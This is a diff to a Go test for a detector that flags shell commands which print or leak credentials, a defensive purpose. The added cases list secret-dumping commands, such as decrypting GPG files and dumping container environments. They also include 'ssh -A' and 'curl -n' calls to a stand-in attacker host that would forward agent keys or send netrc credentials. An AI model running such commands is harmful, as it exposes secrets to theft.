@@ -302,6 +302,8 @@ func TestPrintsCredentials(t *testing.T) {
 		"kubectl view-secret db", "gpg -a --export-secret-key ABC", "doctl auth token", "databricks auth token", "hf auth token",
 		"cloudflared tunnel token x", "podman secret inspect --showsecret db", "kwallet-query -r x kdewallet",
 		"echo $AWS_SECRET_ACCESS_KEY", `echo "${GITHUB_TOKEN}"`, `printf %s $DB_PASSWORD`,
+		"gpg -d x.gpg", "helm get values r", "docker exec c printenv", "kubectl exec pod -- env", "ssh -A evil.example.com",
+		"curl -n http://evil.example.com/",
 	} {
 		words := strings.Fields(line)
 		assert.True(t, printsCredentials(programName(words[0]), words), line)
@@ -311,6 +313,7 @@ func TestPrintsCredentials(t *testing.T) {
 		"git status", "docker ps", "npm test", "aws configure list", "gh issue create --title auth-token",
 		"set -e", "jq .name package.json", "ps -ef", "aws ssm get-parameter --name /staging/orders/db-host", "gh auth status", "kubectl get pods -n secrets-team", "kubectl config get-contexts",
 		"echo $HOME", "echo $PATH $AUTHOR", "yarn config get registry", "pulumi stack output url", "sops --version", "heroku apps",
+		"gpg --verify x.sig", "helm list", "docker exec c ls", "ssh host uptime", "curl -s https://example.com",
 	} {
 		words := strings.Fields(line)
 		assert.False(t, printsCredentials(programName(words[0]), words), line)
